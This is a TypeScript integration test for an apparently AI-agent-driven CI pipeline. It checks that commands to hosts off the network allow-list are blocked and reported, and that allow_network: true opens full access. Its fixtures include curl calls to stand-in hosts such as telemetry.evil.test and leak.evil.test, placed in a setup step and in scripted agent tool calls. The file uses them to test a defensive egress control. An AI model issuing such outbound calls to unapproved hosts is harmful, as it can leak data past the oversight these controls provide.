import { afterEach, describe, expect, it } from 'vitest';
import { listEvents } from '../../src/storage/index.js';
import type { Harness } from './harness.js';
import { REPO, startHarness } from './harness.js';
import { call, develop, intake, plan } from './scripts/builders.js';
import { botComments, featureScript, labelNewIssue, withConfig } from './scripts/steering.js';

const CONFIG = [
  'setup: curl -sS --max-time 5 https://telemetry.evil.test/collect || echo "telemetry unreachable"',
  'network:',
  '  allow: [api.example.com]',
  '',
].join('\n');

describe('a run whose commands try hosts that are not on the allow-list', () => {
  let h: Harness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });

  it('records each refused host as an egress_blocked event and lists them in the check run', async () => {
    h = await startHarness({
      files: withConfig(CONFIG),
      script: {
        conversations: [
          intake('feature'),
          plan(['Write src/sub.js']),
          develop('Add sub', [
            call('write_file', { path: 'src/sub.js', content: 'export const sub = (a, b) => a - b;\n' }),
            call('run_command', { command: 'curl -sS http://leak.evil.test/ || true' }),
            call('run_command', { command: 'curl -sS http://offline.evil.test/ || true', offline: true }),
          ]),
        ],
      },
    });
    const issue = await labelNewIssue(h);
    const run = await h.waitForRun(issue, ['succeeded', 'failed', 'waiting_input'], 60_000);
    h.anthropic.assertScriptDone();
    expect(run.status, run.error ?? '').toBe('succeeded');

    const events = await listEvents(h.db, run.id, { limit: 5000 });
    const blocked = events.filter((e) => e.type === 'egress_blocked');
    expect(blocked.map((e) => e.message)).toEqual([
      expect.stringContaining('leak.evil.test:80'),
      expect.stringContaining('telemetry.evil.test:443'),
    ]);
    expect(blocked[1]?.data).toMatchObject({
      command: expect.stringContaining('telemetry.evil.test'),
      blocked: [
        { host: 'telemetry.evil.test', port: 443, method: 'CONNECT', reason: 'not-allowed', count: 1 },
      ],
    });
    // The offline command had no proxy to ask: nothing of it reached one.
    expect(JSON.stringify(blocked)).not.toContain('offline.evil.test');
    const commands = events.filter((e) => e.type === 'command').map((e) => e.data);
    expect(commands).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ command: expect.stringContaining('offline.evil.test'), network: 'none' }),
        expect.objectContaining({
          command: expect.stringContaining('leak.evil.test'),
          network: 'allow-list',
        }),
      ]),
    );

    const [check] = h.github.checkRuns(REPO).filter((c) => c.name === 'pipeline/tests');
    expect(check?.conclusion).toBe('success');
    expect(check?.output.summary).toContain('**Blocked network requests:**');
    expect(check?.output.summary).toContain('`telemetry.evil.test:443`');
    expect(check?.output.summary).toContain('`network.allow` in `.github/pipeline.yml`');
  });

  it('with allow_network: true gives commands the whole network, and the run says so', async () => {
    h = await startHarness({
      files: withConfig('allow_network: true\nsetup: echo ready\n'),
      script: featureScript(),
    });
    const issue = await labelNewIssue(h);
    const run = await h.waitForRun(issue, ['succeeded', 'failed', 'waiting_input'], 60_000);
    expect(run.status, run.error ?? '').toBe('succeeded');

    const [status] = botComments(h, issue);
    expect(status?.body).toContain(
      '`allow_network: true` in `.github/pipeline.yml`: commands of this run can reach',
    );
    const events = await listEvents(h.db, run.id, { limit: 5000 });
    const commands = events.filter((e) => e.type === 'command').map((e) => e.data);
    expect(commands).toContainEqual(expect.objectContaining({ command: 'echo ready', network: 'full' }));
    expect(events.filter((e) => e.type === 'egress_blocked')).toEqual([]);
  });
});
